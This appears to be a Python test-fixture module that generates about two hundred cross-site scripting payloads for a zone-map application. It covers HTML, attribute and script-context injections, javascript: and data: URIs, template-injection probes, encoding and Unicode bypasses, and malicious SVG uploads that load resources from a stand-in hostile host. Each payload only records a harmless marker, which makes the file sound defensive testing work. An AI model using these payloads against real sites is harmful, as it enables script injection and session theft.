"""Two hundred words and drawings that would run in a browser, if anything let them: ``{fire}`` is what they want."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

_FIRE = "window.zonemapFired=(window.zonemapFired||[]).concat({number})"
_ELSEWHERE = "http://hostile.test"

# Into text, into an attribute, into a script, out of a title or a text area, and in other letters.
_WORDS = (
    "<script>{fire}</script>", "</title><script>{fire}</script>", "</textarea><script>{fire}</script>",
    "</script><script>{fire}</script>", "--><script>{fire}</script>", "]]><script>{fire}</script>",
    "<img src=x onerror={fire}>", '"><img src=x onerror={fire}>', "'><img src=x onerror={fire}>",
    '" onmouseover="{fire}" x="', "' onfocus='{fire}' autofocus='", '" autofocus onfocus={fire} x=', "` onclick=`{fire}`",
    "<svg onload={fire}>", "<svg/onload={fire}//", "<svg><script>{fire}</script></svg>", "<svg><animate onbegin={fire}>",
    "<body onload={fire}>", "<iframe srcdoc='<script>parent.{fire}</script>'>", "<iframe src=javascript:{fire}>",
    "<object data=javascript:{fire}>", "<embed src=javascript:{fire}>", "<a href=javascript:{fire}>x</a>",
    "javascript:{fire}", "JaVaScRiPt:{fire}", "java\tscript:{fire}", "data:text/html,<script>{fire}</script>",
    "vbscript:{fire}", "<form action=javascript:{fire}><button>x</button></form>", "<input onfocus={fire} autofocus>",
    "<details open ontoggle={fire}>x</details>", "<video><source onerror={fire}></video>", "<audio src=x onerror={fire}>",
    "<math><mi xlink:href=javascript:{fire}>x</mi></math>", "<style>@import '{away}/a.css';</style>",
    "<link rel=stylesheet href={away}/a.css>", "<base href={away}/>", "<meta http-equiv=refresh content=0;url={away}>",
    "<img src={away}/a.png>", "<isindex action=javascript:{fire} type=image>", "<marquee onstart={fire}>x</marquee>",
    "{{{{constructor.constructor('{fire}')()}}}}", "${{{fire}}}", "#{{{fire}}}", "<%= {fire} %>", "{{% raw %}}{fire}",
    "{{{{7*7}}}}{{{{config}}}}", "'-{fire}-'", '"-{fire}-"', "\\\";{fire}//", "\\u003cscript\\u003e{fire}\\u003c/script\\u003e",
    "&lt;script&gt;{fire}&lt;/script&gt;", "&#60;script&#62;{fire}&#60;/script&#62;", "%3Cscript%3E{fire}%3C/script%3E",
    "＜script＞{fire}＜/script＞", "<ſcript>{fire}</ſcript>", "<scr<script>ipt>{fire}</scr</script>ipt>",
    "<<script>{fire}//<</script>", "<noscript><p title='</noscript><img src=x onerror={fire}>'>",
    "<template><script>{fire}</script></template>", "<x contenteditable onblur={fire} autofocus>x", "<!--><img src=x onerror={fire}>",
    "<![CDATA[<script>{fire}</script>]]>", "<?xml-stylesheet href='javascript:{fire}'?>", "<p style='background:url(javascript:{fire})'>",
    "expression({fire})", "\u202e<script>{fire}</script>", "\u2028{fire}\u2029", "<a id=__proto__ name=zonemapFired>", "=HYPERLINK(\"{away}\")",
    "<button popovertarget=x onbeforetoggle={fire}>x</button><div popover id=x>", "<img srcset='{away}/1.png 1x' onload={fire}>",
    "<dialog open onclose={fire}>", "<portal src={away}>", "<slot onslotchange={fire}>", "<use href='data:image/svg+xml,<svg/>'>",
)  # fmt: skip

# Into the body of an SVG that is uploaded as a plan.
_DRAWN = (
    "<script>{fire}</script>", "<script href='{away}/a.js'/>", "<script type='module'>{fire}</script>",
    "<script xlink:href='data:text/javascript,{fire}'/>", "<g onload='{fire}'><rect width='9' height='9'/></g>",
    "<rect width='400' height='300' onclick='{fire}' onmouseover='{fire}'/>", "<image href='x' onerror='{fire}'/>",
    "<animate attributeName='x' onbegin='{fire}' dur='1s'/>", "<set attributeName='onload' to='{fire}'/>",
    "<a href='javascript:{fire}'><rect width='400' height='300'/></a>", "<a xlink:href='javascript:{fire}'><text y='20'>x</text></a>",
    "<a href='data:text/html,&lt;script&gt;{fire}&lt;/script&gt;'><rect width='9' height='9'/></a>",
    "<a><animate attributeName='href' values='javascript:{fire}'/><rect width='400' height='300'/></a>",
    "<foreignObject width='400' height='300'><body xmlns='http://www.w3.org/1999/xhtml' onload='{fire}'/></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{fire}'/></foreignObject>",
    "<foreignObject width='9' height='9'><script xmlns='http://www.w3.org/1999/xhtml'>{fire}</script></foreignObject>",
    "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{fire}'/></foreignObject>",
    "<use href='{away}/a.svg#x'/>", "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;{fire}&quot;/&gt;#x'/>",
    "<image href='{away}/a.png' width='9' height='9'/>", "<image href='javascript:{fire}' width='9' height='9'/>",
    "<image href='data:image/svg+xml,&lt;svg onload=&quot;{fire}&quot;/&gt;' width='9' height='9'/>", "<feImage href='{away}/a.svg'/>",
    "<style>@import url('{away}/a.css');</style>", "<style>rect{{fill:url('{away}/a.svg#a')}}</style><rect width='9' height='9'/>",
    "<style>@font-face{{font-family:x;src:url('{away}/a.woff')}}text{{font-family:x}}</style><text y='20'>x</text>",
    "<rect width='9' height='9' style='background:url(javascript:{fire})'/>", "<rect width='9' height='9' fill='url({away}/a.svg#a)'/>",
    "<rect width='9' height='9' filter='url({away}/a.svg#a)' mask='url({away}/a.svg#m)' clip-path='url({away}/a.svg#c)'/>",
    "<metadata><x xmlns='http://www.w3.org/1999/xhtml' onload='{fire}'/></metadata>", "<title>&lt;script&gt;{fire}&lt;/script&gt;</title>",
    "<desc>&lt;img src=x onerror={fire}&gt;</desc>", "<text y='20'>&lt;script&gt;{fire}&lt;/script&gt;</text>",
    "<text y='20'>&#x3c;img src=x onerror={fire}&#x3e;</text>", "<text y='20'><![CDATA[<script>{fire}</script>]]></text>",
    "<switch><foreignObject requiredExtensions='http://www.w3.org/1999/xhtml'><script>{fire}</script></foreignObject></switch>",
    "<handler xmlns='http://www.w3.org/2001/xml-events' type='application/ecmascript'>{fire}</handler>",
    "<discard onbegin='{fire}'/>", "<animateMotion onend='{fire}' dur='0.01s'/>", "<cursor href='{away}/a.cur'/>", "<mpath href='{away}/a.svg#p'/>",
    "<textPath href='{away}/a.svg#p'>x</textPath>", "<tref xlink:href='{away}/a.svg#t'/>", "<color-profile xlink:href='{away}/a.icc'/>",
    "<marker id='m'><script>{fire}</script></marker><path marker-end='url(#m)' d='M0 0L9 9'/>", "<pattern id='p'><a href='javascript:{fire}'/></pattern>",
    "<symbol id='s'><script>{fire}</script></symbol><use href='#s'/>", "<svg onload='{fire}'><svg onload='{fire}'/></svg>",
    "<x:script xmlns:x='http://www.w3.org/2000/svg'>{fire}</x:script>", "<html xmlns='http://www.w3.org/1999/xhtml'><script>{fire}</script></html>",
)  # fmt: skip
_NAMES = (".png", ".svg", ".pdf", ".html", "")
ENOUGH = 200


def words() -> list[str]:
    """Words that somebody may give a room, a person, a facility, a sign."""
    plain = [_said(each, number) for number, each in enumerate(_WORDS)]
    # Once more as somebody would write them who knows of capitals, and of spaces where none belong.
    other = [_said(each, 1000 + number) for number, each in enumerate(_WORDS[:65])]
    return plain + [
        each.replace("script", "sCRipT").replace("<img ", "<IMG\n/").replace("on", "oN", 1) for each in other
    ]


def drawings() -> list[bytes]:
    """Bodies of SVG; each is well formed, so that only what is let through decides."""
    return [_said(each, 2000 + number, quoted=True).encode() for number, each in enumerate(_DRAWN)]


def names() -> list[str]:
    """Names of files."""
    return [each.replace("/", "_").replace("\t", " ") + _NAMES[n % 5] for n, each in enumerate(words()[:20])]


def _said(pattern: str, number: int, *, quoted: bool = False) -> str:
    fire = _FIRE.format(number=number)
    return pattern.format(fire=escape(fire) if quoted else fire, away=_ELSEWHERE)


def every() -> Iterator[object]:
    """All of them."""
    yield from words()
    yield from drawings()
    yield from names()
